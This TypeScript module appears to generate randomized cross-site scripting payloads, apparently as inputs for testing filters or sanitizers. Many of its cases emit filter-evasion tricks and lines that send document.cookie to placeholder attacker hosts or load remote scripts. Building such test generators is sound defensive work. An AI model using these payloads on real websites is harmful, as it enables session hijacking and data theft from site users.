// Ways to call a function in JavaScript, as attacks write them.

import type { Picker } from './picker.ts';

const FUNCTIONS = [
  'alert',
  'confirm',
  'prompt',
  'print',
  'eval',
  'fetch',
  'console.log',
  'document.write',
  'import',
  'open',
  'Function',
  'setTimeout',
];
const ARGUMENTS = [
  '1',
  '',
  '0',
  '9',
  '/xss/',
  "'XSS'",
  '"XSS"',
  '`1`',
  'document.cookie',
  'document.domain',
  'origin',
  'window.name',
  'location',
  'localStorage.token',
  '1337',
  'String.fromCharCode(88,83,83)',
  "'hacked'",
  'navigator.userAgent',
  'this',
  'self.origin',
  'document.location.href',
];
const HOSTS = [
  'evil.example',
  'attacker.test',
  'x.ss',
  '14.rs',
  'xss.rocks',
  'localhost',
  '127.0.0.1:8000',
  'a.bc',
  'bad.example.net/x.js',
];

/** Where an attacker’s script is. */
export function scriptHost(p: Picker): string {
  return p.chance(0.3)
    ? `${p.letters(3, 9)}.${p.pick(['com', 'net', 'io', 'ru', 'xyz', 'example'])}/${p.letters(1, 5)}`
    : p.pick(HOSTS);
}

/** An expression that does something. */
export function script(p: Picker): string {
  const name = p.pick(FUNCTIONS);
  const plain = p.chance(0.6) ? p.pick(['alert', 'confirm', 'prompt', 'print', 'alert']) : name;
  const argument = p.pick(ARGUMENTS);
  const tick = p.pick(['1', 'xss', '${document.cookie}', '', '23']);
  switch (p.int(0, 32)) {
    case 0:
      return `${plain}\`${tick}\``;
    case 1:
      return `(${plain})(${argument})`;
    case 2:
      return `window['${plain}'](${argument})`;
    case 3:
      return `top["${plain.slice(0, 2)}"+"${plain.slice(2)}"](${argument})`;
    case 4:
      return `self[/${plain.slice(0, 2)}/.source+/${plain.slice(2)}/.source](${argument})`;
    case 5:
      return `eval(atob('${p.from('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 8, 24)}=='))`;
    case 6:
      return `[${argument === '' ? '1' : argument}].${p.pick(['find', 'map', 'some', 'every', 'forEach', 'filter', 'findIndex'])}(${plain})`;
    case 7:
      return `onerror=${plain};throw ${argument === '' ? '1' : argument}`;
    case 8:
      return `{onerror=${plain}}throw ${p.int(1, 1337)}`;
    case 9:
      return `import('//${scriptHost(p)}')`;
    case 10:
      return `fetch('//${scriptHost(p)}?c='+document.cookie)`;
    case 11:
      return `location='//${scriptHost(p)}/?'+document.cookie`;
    case 12:
      return `document.location="http://${scriptHost(p)}/${p.letters(2, 6)}.php?c="+escape(document.cookie)`;
    case 13:
      return `new Image().src='http://${scriptHost(p)}/${p.letters(1, 4)}?'+document.cookie`;
    case 14:
      return `eval(String.fromCharCode(${p.many(4, 14, ',', () => String(p.int(32, 122)))}))`;
    case 15:
      return `${plain}?.(${argument})`;
    case 16:
      return `(${p.letters(1, 1)}=${plain},${p.letters(1, 1)}(${argument}))`;
    case 17:
      return `setTimeout('${plain}(${argument.replaceAll("'", '"')})',${p.int(0, 900)})`;
    case 18:
      return `[]['constructor']['constructor']('${plain}(1)')()`;
    case 19:
      return `Function("${plain}(1)")()`;
    case 20:
      return `\\u00${plain.charCodeAt(0).toString(16)}${plain.slice(1)}(${argument})`;
    case 21:
      return `document.write('<script src=//${scriptHost(p)}></script>')`;
    case 22:
      return `${plain}.${p.pick(['call', 'apply'])}(null,${p.pick(['1', '[1]', '`1`'])})`;
    case 23:
      return `${p.letters(1, 3)}=${plain};${p.letters(1, 3)}(${argument})`;
    case 24:
      return `Reflect.apply(${plain},this,[${argument}])`;
    case 25:
      return `$.getScript('//${scriptHost(p)}')`;
    case 26:
      return `with(document)${plain}(cookie)`;
    case 27:
      return `globalThis['${plain}'](${argument})`;
    case 28:
      return p.many(4, 20, '', () =>
        p.pick(['[]', '![]', '+[]', '(![]+[])[+[]]', '[+!+[]]', '!+[]', '+', '()', '(!![]+[])']),
      );
    default:
      return `${plain}(${argument})`;
  }
}
